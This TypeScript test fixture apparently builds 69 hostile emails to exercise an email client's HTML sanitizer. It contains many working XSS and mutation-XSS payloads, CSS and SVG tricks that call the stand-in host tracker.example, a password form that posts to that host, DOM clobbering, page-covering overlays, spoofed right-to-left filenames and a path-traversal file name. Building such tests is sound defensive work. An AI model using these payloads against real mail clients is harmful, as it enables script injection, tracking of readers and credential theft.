import type { SendMailOptions } from 'nodemailer'

/** A host that no mail may make the browser call. */
const at = 'http://tracker.example'
const run = 'top.pwned=parent.pwned=window.pwned=1;alert(1)'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${at}/svg-image"/></svg>`
const encoded = (text: string) => Buffer.from(text).toString('base64')
const htmlFile = `<script>${run}</script><img src=${at}/file onerror=${run}>`

/** HTML of mails that try to run scripts. */
const scripts: Record<string, string> = {
  'script elements': `<script>${run}</script><script src="${at}/s.js"></script><script type=module>${run}</script><SCRIPT/x>${run}</SCRIPT>`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt><<script>${run}//<</script>`,
  'event handlers of images': `<img src=x onerror="${run}"><img src onload=${run}><IMG """><SCRIPT>${run}</SCRIPT>"><img/src=x/onerror=${run}>`,
  'event handlers of all kinds': ['click', 'focus', 'toggle', 'animationstart', 'transitionend', 'wheel', 'pointerenter', 'beforetoggle', 'scrollsnapchange']
    .map((event) => `<details open autofocus tabindex=0 style="animation: x 1s" on${event}="${run}">${event}</details>`).join(''),
  'handlers of the body': `<body onload="${run}" onpageshow="${run}" onhashchange="${run}" onscroll="${run}" onresize="${run}"><p>body</p></body>`,
  'a marquee': `<marquee onstart="${run}" loop=1>m</marquee><marquee onfinish="${run}" loop=0 width=0>m</marquee>`,
  'javascript URLs': `<a href="javascript:${run}">a</a><a href="JaVaScRiPt:${run}">b</a><img src="javascript:${run}"><table background="javascript:${run}">`,
  'javascript URLs with entities': `<a href="&#106;avascript&colon;${run}">a</a><a href="&#x6A&#x61&#x76ascript:${run}">b</a>`,
  'javascript URLs with white space': `<a href="\u0001java\tscript:${run}">a</a><a href=" java\nscript:${run}">b</a><a href="java&#0;script:${run}">c</a>`,
  'data and vbscript URLs': `<a href="data:text/html,<script>${run}</script>">a</a><a href="vbscript:msgbox(1)">b</a><a href="blob:${at}/x">c</a><a href="filesystem:x">d</a>`,
  'xlink and action URLs': `<a xlink:href="javascript:${run}">a</a><form><button formaction="javascript:${run}">b</button></form><isindex action="javascript:${run}">`,
  'a template and custom elements': `<template><script>${run}</script></template><template shadowrootmode=open><img src=x onerror=${run}></template><x-y is=script>${run}</x-y>`,
  'speculation rules and import maps': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}/spec"]}]}</script><script type=importmap>{"imports":{"a":"${at}/m"}}</script>`,
}

const markup: Record<string, string> = {
  'SVG scripts': svg,
  'SVG use and foreign objects': `<svg><use href="data:image/svg+xml;base64,${encoded(svg)}#x"/><use xlink:href="${at}/use.svg#x"/><foreignObject><body onload="${run}"><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  'SVG animations of links': `<svg><a><animate attributeName=href values="javascript:${run}" begin=0s /><set attributeName=href to="javascript:${run}"/><text y=20>x</text></a><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'SVG filters and images': `<svg><image href="${at}/a"/><feImage href="${at}/b"/><style>@import "${at}/c";</style><filter id=f><feImage xlink:href="${at}/d"/></filter></svg>`,
  'SVG images': `<img src="data:image/svg+xml;base64,${encoded(svg)}"><img src="data:image/svg+xml,${encodeURIComponent(svg)}"><table background="data:image/svg+xml;base64,${encoded(svg)}"><tr><td>x</table>`,
  'MathML': `<math href="javascript:${run}">x</math><math><maction actiontype="statusline#${at}" xlink:href="javascript:${run}">y</maction><mtext><img src=x onerror=${run}></mtext></math>`,
  'MathML with namespace confusion': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'a form that contains forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'noscript with an attribute': `<noscript><p title="</noscript><img src=${at}/n onerror=${run}>">`,
  'text areas and titles': `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><title><img title="</title><img src=x onerror=${run}>"></title>`,
  'raw text elements': `<style><img title="</style><img src=x onerror=${run}>"></style><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><noembed><p title="</noembed><script>${run}</script>">`,
  'comments': `<!--><img src=x onerror=${run}>--><!--[if gte mso 9]><img src=x onerror=${run}><![endif]--><!-- --!><img src=x onerror=${run}> --><![CDATA[<img src=x onerror=${run}>]]>`,
  'tables in tables': `<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src=x onerror=${run}>"></style></title></svg></caption></table>`,
  'an annotation with HTML': `<svg></p><style><a id="</style><img src=1 onerror=${run}>"><math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  'plain text to the end': `<b>begin</b><plaintext><script>${run}</script>`,
  'broken tags': `<img src="x` + '`' + `<script>${run}</script>"` + '`' + ` src=x onerror=${run}<b <i <a href=//tracker.example/broken`,
}

const loads: Record<string, string> = {
  'images of other hosts': `<img src="${at}/image"><img src="//tracker.example/image"><img src="\\\\tracker.example\\image"><img src="ht\ntps://tracker.example/image"><img srcset="${at}/set 1x, ${at}/set 2x"><img lowsrc="${at}/low" dynsrc="${at}/dyn">`,
  'backgrounds of tables': `<body background="${at}/image"><table background="${at}/image"><tr background="${at}/image"><td background="//tracker.example/image">x</table>`,
  'links to files': `<link rel=stylesheet href="${at}/css"><link rel=prefetch href="${at}/p"><link rel=dns-prefetch href="//dns.tracker.example"><link rel=preconnect href="${at}"><link rel=icon href="${at}/i"><link rel=preload as=image href="${at}/l"><link rel=modulepreload href="${at}/m"><link rel=manifest href="${at}/w">`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${at}/refresh"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>`,
  'a base': `<base href="${at}/" target=_top><img src="relative.png"><a href="relative">x</a>`,
  'videos and sounds': `<video poster="${at}/poster" src="${at}/v" autoplay onplay="${run}"><source src="${at}/vs" onerror="${run}"><track src="${at}/t" default></video><audio src="${at}/a" autoplay controls></audio><bgsound src="${at}/b">`,
  'pictures': `<picture><source srcset="${at}/s1" media="all"><img src=x></picture><input type=image src="${at}/input"><img src=cid:none longdesc="${at}/long">`,
  'frames': `<iframe src="${at}/f"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${at}/o"><embed src="${at}/e"></object><applet code=x codebase="${at}"></applet><portal src="${at}/p"></portal><fencedframe></fencedframe>`,
  'the end of a tag in an attribute of html': `<html title=">" lang="</html>" dir=rtl><p>x<img src=${at}/z onerror=${run}>`,
  'a tag of html that does not end': `<html title="><p onclick=${run}>x</p>`,
  'a frame set': `<html><frameset onload="${run}"><frame src="${at}/f"><frame src="javascript:${run}"></frameset></html>`,
  'forms': `<form action="${at}/form" method=post id=f><input name=password type=password autofocus onfocus="${run}"><button formaction="${at}/b">Sign in</button><input type=submit></form><button form=f formtarget=_top>x</button><keygen><select><option>x</select>`,
  'pings and targets': `<a href="https://shop.example/" ping="${at}/ping" target=_top rel=opener>a</a><a href="https://shop.example/" target=_parent download>b</a><map name=m><area href="javascript:${run}" shape=default target=_self></map><img usemap="#m" src=x>`,
  'the server itself': '<img src="/api/v1/account"><img src="http://localhost/api/v1/emails"><a href="/account">x</a><img src="sign-in">',
}

const css = (text: string) => `<style>${text}</style><div id=x class=x style="width: 9px; height: 9px">x</div>`

const styles: Record<string, string> = {
  'CSS imports': css(`@import "${at}/a"; @import url(${at}/b) screen; @charset "x"; @IMPORT/**/url("${at}/c") layer(x) supports(display: block); @\\69mport "${at}/d";`),
  'CSS backgrounds': css(`.x { background: url(${at}/image) } #x { background-image: url( '${at}/image' ), url("//tracker.example/image") } body { background: red url(${at}/image) fixed }`),
  'CSS images of lists and contents': css(`.x { display: list-item; list-style: url(${at}/image) } .x::before { content: url(${at}/a) } .x::marker { content: url(${at}/b) } .x { cursor: url(${at}/c), auto; border-image: url(${at}/image) 1 }`),
  'CSS masks and filters': css(`.x { mask: url(${at}/a); -webkit-mask-image: url(${at}/b); filter: url(${at}/c#f); clip-path: url(${at}/d#p); shape-outside: url(${at}/e); offset-path: url(${at}/f#p); -webkit-box-reflect: below 0 url(${at}/g); backdrop-filter: url(${at}/h#f) }`),
  'CSS image sets': css(`.x { background-image: image-set("${at}/a" 1x, "${at}/b" 2x) } .x::after { content: -webkit-image-set(url(${at}/c) 1x) } .x::before { content: ''; background: image("${at}/d"); background: cross-fade(url(${at}/e), url(${at}/f), 50%); background: -webkit-cross-fade(url(${at}/g), url(${at}/h), 50%); background: src("${at}/i") }`),
  'CSS variables': css(`:root { --a: url(${at}/a); --b: \\75rl(${at}/b) } .x { background: var(--a) } .x { background: var(--none, url(${at}/c)) } .x::after { content: var(--b) } @property --p { syntax: "<url>"; inherits: true; initial-value: url(${at}/d) }`),
  'CSS escapes': css(`.x { background: \\75rl(${at}/image); background: u\\72 l("${at}/image"); background: \\55\\52\\4c(${at}/image); list-style: url(\\68ttp://tracker.example/image) } .x::before { content: "\\75rl(${at}/e)"; background: url(htt\\70://tracker.example/image) }`),
  'CSS fonts': css(`@font-face { font-family: f; src: url(${at}/font) } @font-face { font-family: g; src: local(x), url("${at}/g") format("woff2"); unicode-range: U+0-7F } .x { font-family: f, g } @font-face { font-family: h; src: url(data:font/woff2,x), url(${at}/h) } .x::first-letter { font-family: h }`),
  'CSS in other rules': css(`@media all { .x { cursor: url(${at}/a), auto; background-image: url(${at}/image) } } @supports (display: grid) { @layer l { .x { mask: url(${at}/b) } } } @keyframes k { from, to { cursor: url(${at}/c), auto; background-image: url(${at}/image) } } .x { animation: k 9s infinite } @container (width > 0) { .x { mask: url(${at}/d) } } .x { & { mask-image: url(${at}/e) } } @scope (body) { .x { mask: url(${at}/f) } } @starting-style { .x { mask: url(${at}/g) } } @page { background: url(${at}/h) } @counter-style c { symbols: url(${at}/i) }`),
  'CSS namespaces and comments': css(`@namespace "${at}/n"; .x { background: u/**/rl(${at}/a); background:/*}*/url(/*x*/${at}/b) } .y { content: "</style><script>${run}</script>" } .z[title="</style><img src=${at}/image>"] { color: red } <!-- .x { background: url(${at}/image) } -->`),
  'CSS strings that end the style': css(['.w::after { content: "', '.w[title="', '@font-face { font-family: "', '.w { font-family: "', '@media all { .w { quotes: "', '@layer \\3c/style\\3e\\3cscript\\3e { .w::after { content: "']
    .map((rule) => `${rule}\\3c/style\\3e\\3cimg src=${at}/string onerror=${run}\\3e\\3cscript\\3e${run}\\3c/script\\3e" } }`).join('\n')),
  'styles of elements': `<p style="background: url(${at}/image)">a<p style="background-image: \\75rl('${at}/image')">b<p style='background: url(&quot;//tracker.example/image&quot;)'>c<p style="--a: url(${at}/d); background: var(--a); mask: url(${at}/e); behavior: url(${at}/f); -moz-binding: url(${at}/g)">d<li style="list-style: image-set('${at}/h' 1x)">e<p style="width: expression(${run})">f`,
  'an unclosed style': `<p>text</p><style>.x { background: url(${at}/image) } @import "${at}/a"`,
}

const appearance: Record<string, string> = {
  'a cover over the page': `<div style="position: fixed; inset: -9999px; z-index: 2147483647; width: 99999px; height: 99999px; background: red">Your session has ended</div><dialog open popover>x</dialog>`,
  'styles for the page': css('html, body, nav, h1, * { display: none !important; background: red !important } :root { --mantine-color-body: red; font-size: 99px }'),
  'a height that follows the frame': '<div style="height: 100vh; margin: 10px">vh</div><div style="min-height: 200vh">more</div><table height="110%"><tr><td>x</table><style>html, body { height: 150% }</style>',
  'a great height': '<div style="height: 99999999px; width: 99999999px">high</div>',
  'clobbered members': ['body', 'head', 'title', 'createElement', 'documentElement', 'defaultView', 'images', 'getElementById', 'querySelectorAll', 'addEventListener']
    .map((name) => `<img name=${name} id=${name}><a id=${name} name=${name}>x</a><form name=${name} id=${name}></form><map name=${name}></map>`).join(''),
  'bidi text': `\u202E evil \u2066 text \u200B \u2069<bdo dir=rtl>reversed</bdo><p dir=rtl>${'\u0301'.repeat(2_000)}`,
  'very long words': `<h1>${'W'.repeat(200_000)}</h1><a href="https://shop.example/${'x'.repeat(50_000)}">${'y'.repeat(50_000)}</a>`,
  'elements 220 deep': `${'<div style="padding: 1px">'.repeat(100)}deep${'<table><tr><td>'.repeat(30)}<script>${run}</script>`,
  'a megabyte of HTML': `<p onclick="${run}">word <b>bold</b> <a href="https://shop.example/">link</a></p>\n`.repeat(9_000),
  'a megabyte of CSS': css(`.a { color: red; background: url(${at}/image) }\n`.repeat(16_000)),
}

const image = (cid: string) => `<img src="cid:${cid}"><table background="cid:${cid}"><tr><td>x</table><p style="background: url(cid:${cid})">y</p>`

/** Mails whose files are hostile too. */
const files: Record<string, SendMailOptions> = {
  'an inline image that is HTML': { html: image('page'), attachments: [{ cid: 'page', filename: 'page.png', contentType: 'text/html', content: htmlFile }] },
  'an inline image that is SVG': { html: image('svg'), attachments: [{ cid: 'svg', filename: 'a.svg', contentType: 'image/svg+xml', content: svg }] },
  'HTML that is declared as an image': { html: image('png'), attachments: [{ cid: 'png', filename: 'a.png', contentType: 'image/png', content: htmlFile }] },
  'names of files': {
    html: '<p>files</p>',
    attachments: ['invoice\u202Efdp.exe', '\u200B\u2066a.pdf', '<img src=x onerror=alert(1)>.html', '../../etc/passwd', `${'n'.repeat(250)}.txt`]
      .map((filename) => ({ filename, content: 'x' })),
  },
  'names of people': { from: { name: `"><img src=${at}/name onerror=${run}>\u202Egro.knab`, address: 'attacker@example.org' }, html: '<p>names</p>' },
}

/** 69 mails that attack the reader's browser, privacy or eyes, by their names. */
export const hostileMails: Record<string, SendMailOptions> = {
  ...Object.fromEntries(Object.entries({ ...scripts, ...markup, ...loads, ...styles, ...appearance })
    .map(([name, html]) => [name, { html }])),
  ...files,
}
